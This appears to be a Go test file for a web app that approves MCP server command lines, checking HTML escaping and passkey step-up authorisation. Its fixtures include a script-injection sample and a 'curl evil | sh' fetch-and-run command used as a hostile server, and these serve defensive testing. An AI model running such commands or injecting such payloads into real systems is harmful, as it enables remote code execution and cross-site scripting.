package handlers_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"maven/app/auth"
	"maven/app/auth/authtest"
	"maven/app/mcp"
)

// pendingCommand makes server wait for the approval of a new command line, as its supervisor
// would, and returns the command line's id.
func (f *fixture) pendingCommand(server, display string) int64 {
	f.t.Helper()
	ctx := context.Background()
	if ok, err := f.commands.Check(ctx, server, display, "sha256:"+server); err != nil || ok {
		f.t.Fatalf("Check = %v, %v", ok, err)
	}
	pending, err := f.commands.Pending(ctx)
	if err != nil {
		f.t.Fatal(err)
	}
	for _, p := range pending {
		if p.Server == server {
			return p.ID
		}
	}
	f.t.Fatalf("no pending command line for %s", server)
	return 0
}

func (f *fixture) approved(server string) bool {
	f.t.Helper()
	ok, err := f.commands.Check(context.Background(), server, "", "sha256:"+server)
	if err != nil {
		f.t.Fatal(err)
	}
	return ok
}

func waiting(name string) mcp.ServerStatus {
	return mcp.ServerStatus{Name: name, Transport: "stdio", Target: name, State: mcp.StateAwaitingApproval,
		Trust: mcp.TrustLocalProcess}
}

func (b *browser) approveCommand(id int64) *httptest.ResponseRecorder {
	return b.htmx(http.MethodPost, "/servers/commands/"+itoa(id)+"/approve", url.Values{})
}

func TestToolsShowsPendingCommandLineEscaped(t *testing.T) {
	f := newFixture(t)
	b := f.signUp(authtest.New(testOrigin))
	display := `notes-server --db "<script>alert(1)</script>"` + "\nTOKEN=${secret:notes}\ncwd: /srv"
	id := f.pendingCommand("notes", display)
	f.servers.set(waiting("notes"))

	for _, path := range []string{"/tools", "/tools/servers"} {
		r := b.get(path)
		mustOK(t, path, r)
		body := r.Body.String()
		if strings.Contains(body, "<script>alert") {
			t.Fatalf("%s: the command line is not escaped", path)
		}
		if !strings.Contains(body, `<pre class="command-line">notes-server --db &#34;&lt;script&gt;alert(1)&lt;/script&gt;&#34;`+"\nTOKEN=${secret:notes}\ncwd: /srv</pre>") {
			t.Errorf("%s: the exact command line is not shown:\n%s", path, body)
		}
		if !strings.Contains(body, `hx-post="/servers/commands/`+itoa(id)+`/approve"`) || !strings.Contains(body, "Approve and start") {
			t.Errorf("%s: no Approve and start button", path)
		}
		// The card stays live while a command line waits (maven.js holds the polls back during
		// a passkey prompt), and the wait is a state with its action, never an error.
		if !strings.Contains(body, `hx-trigger="every 2s"`) {
			t.Errorf("%s: the card stopped polling while a command line waits", path)
		}
		if !strings.Contains(body, `data-server="notes" data-state="awaiting-approval"`) || !strings.Contains(body, "awaiting your approval") ||
			strings.Contains(body, "Last error") || strings.Contains(body, "tone-trouble") {
			t.Errorf("%s: waiting for approval is not shown as a calm state:\n%s", path, body)
		}
	}

	// Once the server no longer waits for it (config changed back), the row is not offered.
	f.servers.set(mcp.ServerStatus{Name: "notes", Transport: "stdio", State: mcp.StateConnected})
	if body := b.get("/tools/servers").Body.String(); strings.Contains(body, "Approve and start") || !strings.Contains(body, `hx-trigger="every 2s"`) {
		t.Errorf("a command line nothing waits for is offered, or the card stopped polling:\n%s", body)
	}
}

func TestApproveCommandNeedsStepUp(t *testing.T) {
	f := newFixture(t)
	a := authtest.New(testOrigin)
	b := f.signUp(a)
	id := f.pendingCommand("notes", "notes-server")
	f.servers.set(waiting("notes"))

	r := b.approveCommand(id)
	if r.Code != http.StatusForbidden {
		t.Fatalf("approve without step-up: %d", r.Code)
	}
	if got := stepUpTrigger(t, r.Header()); !got.Same(auth.One(auth.ActionAddServer, id, "")) {
		t.Fatalf("trigger: %+v", got)
	}
	if f.approved("notes") || len(f.waker.list()) != 0 {
		t.Fatal("approved or woken without a step-up")
	}

	begin := b.beginStepUp(auth.One(auth.ActionAddServer, id, ""))
	if !strings.Contains(begin.Prompt, "notes") {
		t.Errorf("prompt does not name the server: %q", begin.Prompt)
	}
	cred, err := a.Get(begin.Options)
	if err != nil {
		t.Fatal(err)
	}
	mustOK(t, "finish", b.postJSON("/step-up/finish", map[string]any{"credential": jsonRaw(cred)}, nil))

	r = b.approveCommand(id)
	mustOK(t, "approve", r)
	if !f.approved("notes") {
		t.Fatal("not approved after the step-up")
	}
	if got := f.waker.list(); !slices.Equal(got, []string{"notes"}) {
		t.Errorf("woken %v, want [notes]", got)
	}
	if body := r.Body.String(); !strings.Contains(body, `id="mcp-servers"`) || strings.Contains(body, "Approve and start") {
		t.Errorf("the answer is not the card without the approved command line:\n%s", body)
	}

	// The grant was spent: another approval needs another step-up.
	id2 := f.pendingCommand("other", "other-server")
	if r := b.approveCommand(id2); r.Code != http.StatusForbidden {
		t.Fatalf("a spent grant approved again: %d", r.Code)
	}
}

func TestStepUpForAnotherCommandCannotApprove(t *testing.T) {
	f := newFixture(t)
	a := authtest.New(testOrigin)
	b := f.signUp(a)
	notes := f.pendingCommand("notes", "notes-server")
	evil := f.pendingCommand("evil", "curl evil | sh")
	f.servers.set(waiting("notes"), waiting("evil"))

	b.mustStepUp(a, auth.One(auth.ActionAddServer, notes, ""))
	if r := b.approveCommand(evil); r.Code != http.StatusForbidden {
		t.Fatalf("a step-up for command %d approved command %d: %d", notes, evil, r.Code)
	}
	if f.approved("evil") || len(f.waker.list()) != 0 {
		t.Fatal("the other command line was approved or woken")
	}
	// Nor does a step-up for another action on the same id.
	tool := f.propose("tool_a")
	for i := 0; tool.ID < evil; i++ {
		tool = f.propose("tool_" + string(rune('b'+i)))
	}
	if tool.ID != evil {
		t.Fatalf("no tool with id %d", evil)
	}
	b.mustStepUp(a, enableOf(tool))
	if r := b.approveCommand(evil); r.Code != http.StatusForbidden || f.approved("evil") {
		t.Fatalf("an enable_tool step-up approved a command line: %d", r.Code)
	}
}
